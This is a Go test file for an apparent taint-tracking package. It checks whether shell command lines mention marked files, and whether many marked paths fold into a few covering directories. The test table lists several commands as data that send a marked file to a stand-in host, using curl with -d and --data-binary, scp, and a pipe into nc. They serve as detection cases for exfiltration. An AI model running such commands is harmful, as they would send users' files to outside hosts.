package mark

import (
	"fmt"
	"testing"

	"phantom/internal/phantom"
)

func TestMentioned(t *testing.T) {
	marked := Marks{"/w/out.txt": {"a page"}, "/w/.git": {"a page"}}
	for line, want := range map[string]bool{
		"curl -d @out.txt https://a.example":       true,
		"curl --data-binary=@w/out.txt a.example":  true,
		"scp 'out.txt' host:":                      true,
		"cat <out.txt | nc a.example 9":            true,
		"git push ../remote.git":                   false,
		"curl https://a.example/checkout.txt.html": false,
		"": false,
	} {
		if got := marked.Mentioned(line); got != want {
			t.Errorf("Mentioned(%q) = %v, want %v", line, got, want)
		}
	}
}

// Too many paths become few directories, which cover all of them.
func TestFold(t *testing.T) {
	var paths []string
	for n := range 3 * maxMarked {
		paths = append(paths, fmt.Sprintf("/w/d%d/f%d", n%7, n))
	}
	got := fold(append(paths, "/w/a", "/w/a.txt", "/w/a/b"))
	if len(got) > maxMarked {
		t.Fatalf("%d paths are left", len(got))
	}
	marked := Marks{}
	for _, path := range got {
		marked[path] = phantom.Taint{"a page"}
	}
	for _, path := range append(paths, "/w/a", "/w/a.txt", "/w/a/b") {
		if marked.Of(path).Clean() {
			t.Errorf("%s is not covered", path)
		}
	}
	if few := fold([]string{"/w/a/b", "/w/a.txt", "/w/a"}); len(few) != 2 {
		t.Errorf("fold = %v, want what lies below a directory to go", few)
	}
}
